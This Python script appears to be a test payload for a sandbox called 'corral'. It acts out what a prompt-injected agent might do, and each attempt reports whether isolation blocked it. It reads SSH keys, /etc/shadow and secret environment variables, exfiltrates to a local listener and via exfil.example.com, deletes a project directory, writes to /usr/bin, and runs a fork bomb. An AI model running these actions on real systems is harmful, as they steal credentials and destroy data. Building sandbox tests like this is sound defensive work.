"""An untrusted script, as a prompt-injected agent might write it. Each attempt prints one
JSON line: {"attempt": ..., "outcome": ...}. It is meant to run INSIDE corral; the demo
(demo.py) checks that isolation is in place before it runs the destructive parts."""

import json
import os
import socket
import sys


def report(attempt, outcome):
    print(json.dumps({"attempt": attempt, "outcome": outcome}), flush=True)


def attempt(name, fn):
    try:
        report(name, "SUCCEEDED: " + str(fn())[:200])
    except Exception as e:  # the point of the demo is to show each failure
        report(name, f"failed: {type(e).__name__}: {e}")


victim_home, victim_dir, sink_port = sys.argv[1], sys.argv[2], int(sys.argv[3])

# 1. injected instructions: steal keys and secrets
attempt("read ~/.ssh/id_ed25519 of the host user",
        lambda: open(os.path.join(victim_home, ".ssh/id_ed25519")).read())
attempt("read /root/.ssh and /etc/shadow", lambda: (os.listdir("/root"), open("/etc/shadow").read()))
attempt("print secret environment variables",
        lambda: {k: v for k, v in os.environ.items() if "SECRET" in k or "TOKEN" in k} or
        (_ for _ in ()).throw(LookupError("no secret variables in the environment: " +
                                          ", ".join(sorted(os.environ)))))
# 2. exfiltration over the network
attempt("connect to the attacker's listener on the host's 127.0.0.1",
        lambda: socket.create_connection(("127.0.0.1", sink_port), timeout=2).send(b"stolen"))
attempt("resolve a name (DNS exfiltration)", lambda: socket.getaddrinfo("exfil.example.com", 443))
# 3. accidental or deliberate damage
attempt("delete the user's project directory", lambda: __import__("shutil").rmtree(victim_dir))
attempt("write into /usr/bin", lambda: open("/usr/bin/corral-demo-backdoor", "w").write("x"))
attempt("write a file in /scratch (allowed)", lambda: open("/scratch/notes.txt", "w").write("ok"))


def fork_bomb():
    # bounded: at most 2000 children, each sleeping; the pids limit should stop it far earlier
    pids = []
    try:
        for _ in range(2000):
            pid = os.fork()
            if pid == 0:
                import time
                time.sleep(30)
                os._exit(0)
            pids.append(pid)
    except OSError as e:
        raise OSError(e.errno, f"{e.strerror} after {len(pids)} processes") from None
    return f"{len(pids)} processes"


attempt("fork bomb", fork_bomb)
